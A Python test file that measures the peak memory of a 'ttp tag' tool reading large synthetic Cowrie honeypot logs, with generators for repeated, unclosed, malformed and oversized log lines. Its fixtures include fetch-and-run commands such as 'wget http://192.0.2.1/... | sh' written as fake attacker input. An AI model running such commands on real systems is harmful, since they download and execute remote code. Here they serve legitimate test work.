# SPDX-License-Identifier: Apache-2.0
"""Peak memory of ttp tag: bounded by limits.h, not by the log. The rule pack is loaded; the log comes through a pipe."""
import os
import subprocess
import threading

from harness import FEATURES, ROOT, TTP, check, command, cowrie, environment, event, finish, lines, same, skip_all, wrong

MB = 1 << 20
BOUND_MB = 100

if "sanitized" in FEATURES:
    skip_all("a sanitizer's own memory would be measured")


class Run:
    """ttp tag reading what a generator yields; status, err and peak_mb afterwards."""

    out = ""

    def __init__(self, blocks, *words):
        with subprocess.Popen([TTP, "tag", "--rules", os.path.join(ROOT, "rules/ttp"), *words], env=environment(),
                              stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE) as p:
            feeder = threading.Thread(target=self.feed, args=(p.stdin, blocks))
            feeder.start()
            self.err = p.stderr.read().decode()
            feeder.join()
            _, status, usage = os.wait4(p.pid, 0)
            p.returncode = self.status = os.waitstatus_to_exitcode(status)
        self.peak_mb = usage.ru_maxrss / 1024

    def feed(self, pipe, blocks):
        self.n_bytes = 0
        with pipe:
            for block in blocks:
                pipe.write(block)
                self.n_bytes += len(block)


def numbered(block, n):
    """Copies of a block in which @@@@@@@@ is another number each time."""
    for i in range(n):
        yield block.replace(b"@@@@@@@@", b"%08x" % i)


def example():
    with open(os.path.join(ROOT, "examples/cowrie-example.json"), "rb") as f:
        return f.read()


def log_of_sessions():
    """300 MB: the example's sessions over and over, under ids of their own."""
    block = example()
    for session in sorted(set(part[:12] for part in block.split(b'"session":"')[1:])):
        block = block.replace(session, b"@@@@@@@@" + session[:4])
    return numbered(block * 8, 300 * MB // (8 * len(block)))


def log_of_open_sessions():
    """60 MB: sessions that never close, each of one sensor, address and user of its own."""
    block = lines(cowrie("session.connect", session="@@@@@@@@", sensor="s@@@@@@@@", src_ip="2001:db8::@@@@@@@@"),
                  cowrie("login.failed", session="@@@@@@@@", sensor="s@@@@@@@@", username="u@@@@@@@@", password="p" * 200),
                  command("uname -a; " + "x" * 1000, session="@@@@@@@@", sensor="s@@@@@@@@"))
    return numbered(block, 60 * MB // len(block))


def log_of_one_session():
    """40 MB: one session that never ends, of different commands."""
    block = lines(*[command(f"echo {i} @@@@@@@@ " + "x" * 500) for i in range(100)])
    return numbered(block, 40 * MB // len(block))


def log_of_bad_lines():
    """40 MB: lines that are bad, each in a way of its own, and event ids that nobody knows."""
    block = lines(b'{"eventid":"cowrie.@@@@@@@@"}', b'{"@@@@@@@@', cowrie("a@@@@@@@@"), command(5, session="@@@@@@@@"),
                  command("x", timestamp="@@@@@@@@"))
    return numbered(block * 20, 40 * MB // (20 * len(block)))


def log_of_long_lines():
    """160 MB: commands of 10 MB, and a line of 50 MB."""
    yield lines(command("id"))
    for _ in range(11):
        yield lines(command("wget http://192.0.2.1/a; " * (10 * MB // 25)))
    yield b"x" * (50 * MB) + b"\n"


def log_of_many_techniques():
    """40 MB of events: each with ids of its own."""
    block = lines(event("wget http://192.0.2.1/@@@@@@@@ | sh", source_id="@@@@@@@@", session_id="@@@@@@@@", decky_id="@@@@@@@@"))
    return numbered(block * 40, 40 * MB // (40 * len(block)))


def log_of_dense_lines():
    """Lines of 10 MB that are nothing but values, in ways that parsers find dear."""
    yield lines(command("id"))
    for dense, n in ((b"1,", 5 * MB), (b"[],", 3 * MB), (b'"\\ud800",', MB), (b'"\xff\xff\xff\xff",', MB)):
        yield command("id")[:-1] + b',"x":[' + dense * n + b"1]}\n"


# what the row says; the log; words; exit status; the bound on top of the rules
ROWS = [
    ("300 MB of sessions, which begin at the same time again and again", log_of_sessions, [], 3, BOUND_MB),
    ("60 MB of sessions that never close", log_of_open_sessions, ["--output", "none"], 3, BOUND_MB),
    ("40 MB of one session", log_of_one_session, ["--output", "jsonl"], 0, BOUND_MB),
    ("40 MB of bad lines and unknown event ids", log_of_bad_lines, ["--output", "jsonl"], 3, BOUND_MB),
    ("40 MB of events with ids of their own", log_of_many_techniques, [], 0, BOUND_MB),
    ("lines of 10 and 50 MB", log_of_long_lines, ["--output", "jsonl"], 3, BOUND_MB),
    # one line of TTP_EVENT_MAX may take what its values take; what counts is that lines do not add up
    ("lines of 10 MB that are nothing but values", log_of_dense_lines, ["--output", "jsonl"], 3, 256),
]

nothing = Run(iter([]), "--output", "none")
check("the rules alone", wrong(nothing, status=0))
print(f"    {nothing.peak_mb:.0f} MB")
for says, log, words, status, bound_mb in ROWS:
    run = Run(log(), *words)
    print(f"    {run.n_bytes / MB:.0f} MB read, peak {run.peak_mb:.0f} MB")
    check(f"{says}: under {bound_mb} MB plus the rules", wrong(run, status=status),
          None if run.peak_mb < bound_mb + nothing.peak_mb else f"{run.peak_mb:.0f} MB, the rules take {nothing.peak_mb:.0f}")
finish()
